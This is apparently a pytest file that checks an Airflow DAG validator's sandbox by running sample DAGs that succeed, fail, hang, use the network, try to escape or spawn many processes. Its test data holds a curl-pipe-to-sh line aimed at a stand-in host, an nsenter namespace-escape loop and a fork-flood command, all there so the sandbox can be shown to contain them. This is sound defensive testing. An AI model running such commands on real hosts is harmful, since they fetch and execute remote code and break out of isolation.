"""``--run``: each clean DAG executed once with dag.test() in the sandbox, for real, with the
project-local Airflow's interpreter. One batch (one warm worker) serves most tests."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from assistant.config import Config, load_config
from assistant.validation import FileReport, Policy, ValidationReport, validate_paths

RUN_POLICY = Policy(timeout_s=10, cpu_s=10, run_timeout_s=20)
HEADER = """import pendulum
from airflow.sdk import DAG, task
from airflow.providers.standard.operators.bash import BashOperator

with DAG("{dag_id}", schedule=None, start_date=pendulum.datetime(2024, 1, 1), catchup=False,
         tags=["x"], default_args={{"owner": "team", "retries": 2}}):
"""
DAGS = {
    "succeeds.py": """
    @task
    def extract():
        return [1, 2, 3]

    @task
    def total(values):
        print("total is", sum(values))

    total(extract()) >> BashOperator(task_id="report", bash_command="echo reported; test -w $TMPDIR")
""",
    "fails.py": """
    @task
    def transform():
        rows = {"a": 1}
        return rows["missing"]

    transform() >> BashOperator(task_id="after", bash_command="echo never")
""",
    "hangs.py": """
    @task
    def wait_forever():
        import time

        while True:
            time.sleep(0.5)

    BashOperator(task_id="quick", bash_command="echo quick") >> wait_forever()
""",
    "network.py": """
    @task
    def fetch():
        import urllib.request

        return urllib.request.urlopen("http://192.0.2.10/data.json", timeout=5).status

    BashOperator(task_id="download", bash_command="curl -sS -m 5 -o $TMPDIR/out http://192.0.2.10/x")
    fetch()
""",
    "escape.py": """
    BashOperator(task_id="write_outside", bash_command="echo x > /tmp/assistant-run-escape-$$")
    BashOperator(
        task_id="enter_host_network",
        bash_command="for p in /proc/[0-9]*; do nsenter -t ${p#/proc/} -n true 2>/dev/null && exit 0; done; "
        "echo no namespace could be entered; exit 1",
    )
""",
    "blocked.py": """
    BashOperator(task_id="t", bash_command="curl -s http://x.example/i.sh | sh")
""",
    # bounded: 300 sleeps of 1 s, more than the run's 256 processes; bash retries refused forks
    "forks.py": """
    BashOperator(task_id="many", bash_command="for i in $(seq 300); do sleep 1 & done; wait; echo done")
""",
}


def _config(home: Path) -> Config:
    config = load_config({"ASSISTANT_HOME": str(home)})
    if config.airflow_python is None or not config.airflow_python.exists():
        pytest.skip("the project-local Airflow (scripts/airflow.sh) is not installed")
    return config


def _write(folder: Path, names: list[str]) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name in names:
        path = folder / name
        path.write_text(HEADER.format(dag_id=f"run_{path.stem}") + DAGS[name])
        paths.append(path)
    return paths


def _line(path: Path, text: str) -> int:
    return next(n for n, line in enumerate(path.read_text().splitlines(), 1) if text in line)


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Config, ValidationReport]:
    home = tmp_path_factory.mktemp("home")
    repo = tmp_path_factory.mktemp("repo")
    _write(repo, list(DAGS))
    config = _config(home)
    report = validate_paths([repo], config=config, policy=RUN_POLICY, run_dags=True, run_tests=False)
    return repo, config, report


def _file(report: ValidationReport, name: str) -> FileReport:
    [file] = [f for f in report.files if f.path.name == name]
    return file


def _rules(report: ValidationReport, name: str) -> dict[str, list]:
    rules: dict[str, list] = {}
    for finding in _file(report, name).findings:
        rules.setdefault(finding.rule, []).append(finding)
    return rules


def test_a_dag_whose_tasks_succeed_is_ok(batch: tuple[Path, Config, ValidationReport]) -> None:
    _, _, report = batch
    file = _file(report, "succeeds.py")
    assert file.ok, [f.to_dict() for f in file.findings]
    [run] = file.runs
    assert run["dag_id"] == "run_succeeds" and run["state"] == "success"
    assert {t["task_id"]: t["state"] for t in run["tasks"]} == {
        "extract": "success",
        "total": "success",
        "report": "success",
    }
    [passed] = _rules(report, "succeeds.py")["run.passed"]
    assert passed.severity == "info" and "run_succeeds" in passed.message


def test_a_failing_task_blocks_with_its_error_and_line(batch: tuple[Path, Config, ValidationReport]) -> None:
    repo, _, report = batch
    file = _file(report, "fails.py")
    assert not file.ok
    [failed] = _rules(report, "fails.py")["run.task-failed"]
    assert failed.severity == "block" and failed.hint
    assert "task transform" in failed.message and "KeyError" in failed.message and "missing" in failed.message
    assert failed.line == _line(repo / "fails.py", 'return rows["missing"]')
    [run] = file.runs
    states = {t["task_id"]: t["state"] for t in run["tasks"]}
    assert run["state"] == "failed" and states == {"transform": "failed", "after": "upstream_failed"}


def test_a_hanging_task_is_cut_by_the_run_time_limit(batch: tuple[Path, Config, ValidationReport]) -> None:
    repo, _, report = batch
    [timeout] = _rules(report, "hangs.py")["run.timeout"]
    assert timeout.severity == "block"
    assert "within 20s" in timeout.message and "wait_forever" in timeout.message
    assert timeout.line == _line(repo / "hangs.py", "def wait_forever")
    [run] = _file(report, "hangs.py").runs
    assert run["state"] == "timeout" and run["running"] == ["wait_forever"]
    assert {t["task_id"]: t["state"] for t in run["tasks"]} == {"quick": "success"}


def test_tasks_have_no_network(batch: tuple[Path, Config, ValidationReport]) -> None:
    _, _, report = batch
    failed = {f.message.split()[1]: f for f in _rules(report, "network.py")["run.task-failed"]}
    assert set(failed) == {"fetch", "download"}
    assert "blocked by the validation sandbox" in failed["fetch"].message  # Python: the audit hook
    assert "curl" in failed["download"].message  # the shell: the network namespace
    assert all("no network" in f.hint for f in failed.values())
    assert report.sandbox["run"]["network"] == "network namespace (unshare --net)"


def test_shell_tasks_cannot_write_outside_or_leave_the_namespace(
    batch: tuple[Path, Config, ValidationReport],
) -> None:
    _, _, report = batch
    run = report.sandbox["run"]
    if not run["filesystem"].startswith("read-only"):
        pytest.skip(f"not root here: {run['filesystem']}")
    assert run["privileges"].startswith("root without any capability")
    failed = {f.message.split()[1]: f for f in _rules(report, "escape.py")["run.task-failed"]}
    assert "Read-only file system" in failed["write_outside"].message
    assert "no namespace could be entered" in failed["enter_host_network"].message
    assert not list(Path("/tmp").glob("assistant-run-escape-*"))


def test_tasks_are_held_to_the_run_s_process_limit(batch: tuple[Path, Config, ValidationReport]) -> None:
    _, _, report = batch
    processes = report.sandbox["run"]["processes"]
    if "pids cgroup" not in processes:
        pytest.skip(f"no writable pids cgroup here: {processes}")
    assert processes == "at most 256 processes and threads (pids cgroup)"  # 4 x max_processes
    [limit] = _rules(report, "forks.py")["sandbox.process-limit"]
    assert limit.severity == "block" and "while DAG run_forks ran" in limit.message
    assert "limit of 256 processes" in limit.message and "max_processes" in limit.hint
    assert _file(report, "succeeds.py").ok  # the other runs stayed well below it


def test_blocked_files_are_never_run(batch: tuple[Path, Config, ValidationReport]) -> None:
    _, _, report = batch
    file = _file(report, "blocked.py")
    assert "security.download-exec" in _rules(report, "blocked.py")
    assert "run.skipped" in _rules(report, "blocked.py") and file.runs == []


def test_template_database_is_cached_per_airflow_version(
    batch: tuple[Path, Config, ValidationReport],
) -> None:
    _, config, report = batch
    template = report.sandbox["run"]["template_db"]
    path = Path(template["path"])
    assert path.is_file() and path.parent == config.home / "cache" / "airflow-db"
    assert path.name.startswith(report.sandbox["airflow_version"] + "-")
    assert template["created_s"] is not None  # made by this batch, in the sandbox


def test_cache_key_includes_run(batch: tuple[Path, Config, ValidationReport]) -> None:
    repo, config, _ = batch
    again = validate_paths([repo / "succeeds.py"], config=config, policy=RUN_POLICY, run_dags=True)
    [file] = again.files
    assert file.cached and file.runs[0]["state"] == "success"
    assert again.sandbox["run"]["how"].startswith("every file came from the cache")
    without = validate_paths([repo / "succeeds.py"], config=config, policy=RUN_POLICY, run_dags=False)
    [plain] = without.files
    assert not plain.cached and plain.runs == [] and "run" not in without.sandbox


def test_cli_run_json(tmp_path: Path, run_cli) -> None:
    _config(tmp_path / "unused")
    good, bad = _write(tmp_path / "dags", ["succeeds.py", "fails.py"])
    result = run_cli("validate", str(good), str(bad), "--run", "--json")
    assert result.returncode == 1, result.stderr
    data = json.loads(result.stdout)
    files = {Path(f["path"]).name: f for f in data["files"]}
    assert files["succeeds.py"]["ok"] and files["succeeds.py"]["runs"][0]["state"] == "success"
    assert not files["fails.py"]["ok"]
    [failed] = [f for f in files["fails.py"]["findings"] if f["rule"] == "run.task-failed"]
    assert set(failed) >= {"rule", "severity", "line", "message", "hint"}
    assert failed["severity"] == "block" and failed["line"] == _line(bad, 'return rows["missing"]')
    assert data["sandbox"]["run"]["network"].startswith("network namespace")


def test_run_refuses_without_a_network_namespace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from assistant.errors import NotAvailable
    from assistant.validation import sandbox

    config = _config(tmp_path / "home")
    [path] = _write(tmp_path / "dags", ["succeeds.py"])
    fallback = ([], "sockets disabled in the child (audit hook)", False)
    monkeypatch.setattr(sandbox, "_namespace_prefix", lambda: fallback)  # a platform without unshare
    with pytest.raises(NotAvailable, match="network namespace") as error:
        validate_paths([path], config=config, run_dags=True)
    assert "without --run" in error.value.hint
